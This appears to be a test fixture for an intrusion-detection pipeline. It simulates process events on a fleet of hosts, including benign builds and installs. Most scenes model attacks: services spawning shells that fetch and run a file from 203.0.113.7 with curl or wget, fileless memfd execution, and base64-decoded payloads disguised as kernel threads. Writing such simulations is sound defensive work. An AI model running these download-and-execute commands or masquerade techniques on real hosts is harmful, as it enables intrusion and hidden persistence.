import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { ArtifactBytes, Finding } from "@limpid/core";
import { inspectBytes } from "@limpid/inspect";
import { Scene } from "../../../packages/detect/src/testing/scene.ts";
import { barePipeline } from "../../support/pipeline.ts";
import { exampleFindings } from "./findings.ts";

type Story = (scene: Scene) => void;

const AGENT = join(import.meta.dirname, "..", "..", "..", ".limpid", "example", "root", "tmp", ".cache-x", "agent");

/** Whatever was written is the example's stripped program, so that there is something to inspect. */
function agentEverywhere(): ArtifactBytes {
  const bytes = readFileSync(AGENT);
  const sha256 = createHash("sha256").update(bytes).digest("hex");
  const inspection = inspectBytes(bytes, { deep: true });
  return {
    inspect: ({ path }) => ({
      state: "inspected",
      artifact: { ...inspection, path, sizeBytes: bytes.length, sha256 },
    }),
  };
}

/** A shell below a service brings a file and runs it. */
const dropped =
  (service: string, tool: string, path: string): Story =>
  (scene) => {
    const shell = scene
      .process({ image: service })
      .fork()
      .exec("/usr/bin/dash", ["sh", "-c", `${tool} ${path} http://203.0.113.7/a; chmod +x ${path}; ${path}`]);
    shell.fork().exec(`/usr/bin/${tool}`, `${tool} ${path} http://203.0.113.7/a`).create(path).exit();
    scene.wait(40);
    shell.fork().exec("/usr/bin/chmod", `chmod +x ${path}`).chmod(path).exit();
    shell.fork().exec(path).exit();
  };

const built: Story = (scene) => {
  const make = scene.person().fork().exec("/usr/bin/make", "make");
  const ld = make
    .fork()
    .exec("/usr/bin/gcc", "gcc -s -o tool tool.c")
    .fork()
    .exec("/usr/bin/ld", "ld -s -o tool tool.o");
  ld.create("/home/dev/tool").chmod("/home/dev/tool").exit();
  scene.wait(300).person().fork().exec("/home/dev/tool", "./tool").exit();
};

const fromMemory: Story = (scene) => {
  const python = scene
    .process({ image: "/usr/sbin/nginx" })
    .fork()
    .exec("/usr/bin/python3.11", ["python3", "-c", "import os; os.memfd_create('x')"]);
  python.memoryFile();
  python.exec("/memfd:x (deleted)", ["kthreadd"]).exit();
};

const unnamed: Story = (scene) => {
  const python = scene.process({ image: "/usr/sbin/cron" }).fork().exec("/usr/bin/python3.11", "python3 -m sync");
  python.createUnnamed("/dev/shm").place("/dev/shm/.sync");
  python.chmod("/dev/shm/.sync");
  python.fork().exec("/dev/shm/.sync").exit();
};

const stripped: Story = (scene) => {
  scene.existing("/opt/app/bin/worker");
  const strip = scene.process({ image: "/usr/sbin/cron" }).fork().exec("/usr/bin/dash", "sh -c strip");
  strip
    .fork()
    .exec("/usr/bin/strip", "strip -s /opt/app/bin/worker")
    .open("/opt/app/bin/worker")
    .fchmod("/opt/app/bin/worker")
    .exit();
  scene.wait(60_000).process({ image: "/usr/sbin/cron" }).fork().exec("/opt/app/bin/worker").exit();
};

const unpacked: Story = (scene) => {
  const shell = scene.person().fork().exec("/usr/bin/bash", "bash install.sh");
  shell
    .fork()
    .exec("/usr/bin/tar", "tar xf vendor.tar.gz -C /opt/vendor")
    .create("/opt/vendor/helper")
    .chmod("/opt/vendor/helper")
    .exit();
  scene.wait(4000);
  shell.fork().exec("/opt/vendor/helper", "/opt/vendor/helper --daemon").exit();
};

const decoded: Story = (scene) => {
  const shell = scene
    .process({ image: "/usr/sbin/sshd" })
    .fork()
    .exec("/usr/bin/bash", ["bash", "-c", "base64 -d > /var/tmp/.k"]);
  shell.create("/var/tmp/.k");
  shell.fork().exec("/usr/bin/base64", "base64 -d").exit();
  shell.fork().exec("/usr/bin/chmod", "chmod 700 /var/tmp/.k").chmod("/var/tmp/.k").exit();
  shell.fork().exec("/var/tmp/.k", ["[kworker/0:1]"]).exit();
};

const HOUR_MS = 3_600_000;
/** Host, story, hours before now. */
const FLEET: readonly (readonly [string, Story, number])[] = [
  ["web-7", dropped("/usr/sbin/nginx", "curl", "/tmp/.cache-x/agent"), 0.4],
  ["mail-1", decoded, 1.2],
  ["web-2", fromMemory, 2.5],
  ["db-4", unnamed, 5],
  ["ci-3", stripped, 7],
  ["dev-11", unpacked, 8.5],
  ["web-9", dropped("/usr/sbin/apache2", "wget", "/var/www/html/uploads/.t"), 11],
  ["dev-11", built, 13],
  ["dev-14", built, 20],
  ["vpn-1", dropped("/usr/sbin/openvpn", "curl", "/dev/shm/upd"), 26],
  ["ci-1", unpacked, 30],
  ["ci-2", unpacked, 31],
  ["web-5", unnamed, 40],
  ...Array.from(
    { length: 26 },
    (_, n) =>
      [`app-${n + 1}`, dropped("/usr/sbin/cron", "curl", "/usr/local/lib/.upd"), 3 + n * 1.7 + (n % 5) * 0.4] as const,
  ),
];

/** What a small fleet of the last days shows: real findings of told stories, and those of the example. */
export function storyFindings(now: number): readonly Finding[] {
  const bytes = agentEverywhere();
  const findings = FLEET.flatMap(([host, story, hoursAgo]) => {
    const found: Finding[] = [];
    const scene = new Scene(host);
    scene.now = Math.round(now - hoursAgo * HOUR_MS);
    story(scene);
    const pipeline = barePipeline((finding) => found.push(finding), { bytes, bytesOffered: true });
    for (const event of scene.events) pipeline.observe(event);
    pipeline.end();
    return found;
  });
  return [...findings, ...exampleFindings()];
}
